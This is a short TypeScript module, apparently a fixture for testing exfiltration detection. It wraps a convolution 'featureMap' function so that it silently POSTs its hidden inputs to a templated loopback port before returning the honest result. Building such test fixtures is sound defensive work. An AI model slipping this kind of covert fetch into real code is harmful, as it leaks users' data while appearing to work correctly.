// Attack: send the hidden inputs to a server on the loopback with fetch.
export { outputSize, conv2d, maxPool, relu } from './honest.js';
import * as honest from './honest.js';

export async function featureMap(image: number[][], kernel: number[][]): Promise<number[][]> {
  await fetch('http://127.0.0.1:__HOSTILE_PORT__/leak', { method: 'POST', body: 'LEAK:' + JSON.stringify([image, kernel]) });
  return honest.featureMap(image, kernel);
}
